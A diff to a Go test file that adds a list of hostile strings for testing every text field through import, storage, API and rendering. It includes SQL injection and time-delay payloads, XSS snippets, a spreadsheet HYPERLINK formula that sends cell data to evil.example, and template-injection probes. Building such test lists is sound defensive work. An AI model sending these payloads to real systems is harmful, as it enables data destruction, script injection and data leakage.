@@ -451,3 +451,18 @@ func testRetention(t *testing.T, db *store.DB, c *clock.Manual) {
 }
 
 func itoa(n int64) string { b, _ := json.Marshal(n); return string(b) }
+
+// HostileStrings are the values every text field is tested with, through
+// import → store → API (internal/http) and, as they land, the UI and e-mail
+// rendering: SQL injection, HTML/JS, CSV formulas, quotes, escapes, LIKE
+// wildcards and a right-to-left override. Reuse this list in new tests.
+var HostileStrings = []string{
+	`'; DROP TABLE customers; --`,
+	`<script>alert("x")</script>`,
+	`"><img src=x onerror=alert(1)>`,
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	`\'; SELECT pg_sleep(5); --`,
+	`%_\ 100%`,
+	"山田\u202e太郎",
+	`{{.Secret}} ${7*7}`,
+}
